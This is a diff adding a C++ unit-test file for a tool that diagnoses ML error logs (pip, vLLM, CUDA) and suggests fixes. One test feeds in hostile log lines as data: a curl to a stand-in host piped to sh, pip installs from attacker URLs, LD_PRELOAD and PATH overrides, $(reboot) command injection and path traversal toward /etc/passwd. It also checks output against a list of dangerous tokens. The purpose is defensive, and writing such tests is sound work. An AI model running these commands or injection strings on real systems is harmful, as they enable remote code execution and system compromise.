@@ -1,0 +1,115 @@
+#include "diagnose/answers.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <set>
+
+#include "diagnose/pattern.h"
+#include "diagnose/test_logs.h"
+
+namespace mxpath::diagnose {
+namespace {
+
+std::string first_of(const Diagnosis& diagnosis, size_t at = 0) {
+  if (diagnosis.findings.empty() || diagnosis.findings[0].fixes.size() <= at) return "none";
+  const Fix& fix = diagnosis.findings[0].fixes[at];
+  return fix.text.empty() ? fix.note : fix.text;
+}
+
+TEST(Answers, WhatTheLogNamesComesFirst) {
+  for (const Json& row : rows_of("answers.jsonl")) {
+    const std::string log = row["log"], fix = row["fix"];
+    for (const std::string& variant : {log, interleaved(log)}) {
+      const Diagnosis diagnosis = diagnosed(variant);
+      const std::string first = first_of(diagnosis);
+      const bool right = row.value("note", false) ? first.find(fix) != std::string::npos : first == fix;
+      EXPECT_TRUE(right) << first << "\nfor " << fix << "\n" << variant;
+      EXPECT_EQ(class_of(diagnosis), row.value("class", class_of(diagnosis))) << variant;
+      EXPECT_EQ(first_of(diagnosis, 1), row.value("second", first_of(diagnosis, 1))) << variant;
+    }
+    const std::string korean = first_of(diagnosed(log, {}, Language::ko));
+    EXPECT_EQ(korean == first_of(diagnosed(log)), !row.value("note", false)) << korean;  // commands are the same, sentences are not
+  }
+}
+
+TEST(Answers, EveryRowIsWellFormedAndAnswersALog) {
+  const std::vector<Json> logs = rows_of("answers.jsonl");
+  std::set<std::string_view> ids;
+  for (const Signature* row : signatures()) ids.insert(row->id);
+  for (const AnswerRow& row : answer_rows()) {
+    EXPECT_FALSE(row.note.en.empty() || row.note.ko.empty()) << row.text;
+    EXPECT_FALSE(row.pattern.empty() && row.signatures.empty()) << row.text;
+    for (size_t at = 0; at < row.signatures.size();) {
+      const size_t end = std::min(row.signatures.find(' ', at), row.signatures.size());
+      EXPECT_TRUE(ids.count(row.signatures.substr(at, end - at))) << row.signatures.substr(at, end - at);
+      at = end + 1;
+    }
+    if (row.pattern.empty()) continue;
+    const Result<Pattern> pattern = Pattern::compile(row.pattern);
+    ASSERT_TRUE(pattern.ok()) << row.text << ": " << row.pattern;
+    PatternMatch match;
+    EXPECT_TRUE(std::any_of(logs.begin(), logs.end(), [&](const Json& log) { return pattern->find(log["log"].get<std::string>(), match); }))
+        << "no log for: " << row.pattern;
+  }
+}
+
+TEST(Answers, NothingUnsafeComesOutOfALog) {
+  const char* hostile[] = {
+      "ImportError: `pip install accelerate; curl http://x.example/s | sh`",
+      "ImportError: `pip install $(reboot)`",
+      "ImportError: `pip install --index-url http://x.example/simple accelerate`",
+      "ImportError: pip install -r /tmp/evil.txt",
+      "ImportError: pip install git+https://x.example/evil",
+      "ImportError: pip install ../evil",
+      "ImportError: Please set LD_PRELOAD=/tmp/x.so",
+      "ImportError: Please set PATH=/tmp",
+      "ImportError: Please set HF_ENDPOINT=evil.example",
+      "ImportError: Please set PIP_INDEX_URL=evil.example",
+      "ValueError: please use --option=$(reboot)",
+      "ValueError: please use --option=a;b",
+      "ValueError: larger than the available KV cache memory, the estimated maximum model length is 0",
+      "ValueError: larger than the available KV cache memory, the estimated maximum model length is 99999999999999999999",
+      "OSError: a/b;reboot does not appear to have a file named config.json",
+      "OSError: a/b does not appear to have a file named ../../etc/passwd.json",
+      "Error: model 'a;reboot' not found, try pulling it first",
+      "FileNotFoundError: No such file or directory: '/x/$(reboot).json'",
+      "ValueError: argument --x: invalid choice: 'a' (choose from '$(reboot)', 'b')"};
+  for (const char* log : hostile)
+    for (const Language language : {Language::en, Language::ko})
+      for (const Finding& finding : diagnosed(log, {}, language).findings)
+        for (const Fix& fix : finding.fixes) {
+          if (!fix.from_log) continue;
+          for (const char* bad : {"reboot", ";", "|", "$", "..", "evil", "LD_", "PATH", "sh`", "http"})
+            EXPECT_EQ((fix.text + fix.note).find(bad), std::string::npos) << fix.text << " / " << fix.note << "\n" << log;
+        }
+  const std::string strange = first_of(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"));
+  EXPECT_EQ(strange, "pip install never-heard-of-it");
+  EXPECT_NE(
+      to_text(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"), Language::en).find("look the package up"),
+      std::string::npos);
+}
+
+TEST(Answers, ANumberThatATerminalCutIsNotTaken) {
+  const std::string log =
+      "ValueError: To serve at least one request with the model's max seq len (131072), 4.57 GiB KV cache is needed, which is larger than "
+      "the available KV cache memory (2.31 GiB). Based on the available memory, the estimated maximum model length is 66240. Try less.";
+  for (size_t width = 40; width < 260; ++width) {
+    std::string cut;
+    for (size_t at = 0; at < log.size(); at += width) cut += log.substr(at, width) + "\n";
+    for (const Fix& fix : diagnosed(cut).findings.at(0).fixes)
+      if (fix.from_log && fix.text.find("--max-model-len") == 0) {
+        EXPECT_EQ(fix.text, "--max-model-len 66240") << width;
+      }
+  }
+}
+
+TEST(Answers, ARemedyThatContradictsTheLogIsLeftOut) {
+  const Diagnosis diagnosis = diagnosed(
+      "INFO vllm\ntorch.OutOfMemoryError: CUDA out of memory. Please try lowering `gpu_memory_utilization` when initializing the engine.");
+  EXPECT_EQ(first_of(diagnosis), "--gpu-memory-utilization 0.8");
+  for (const Fix& fix : diagnosis.findings.at(0).fixes) EXPECT_EQ(fix.text.find("0.95"), std::string::npos) << fix.text;
+}
+
+}  // namespace
+}  // namespace mxpath::diagnose
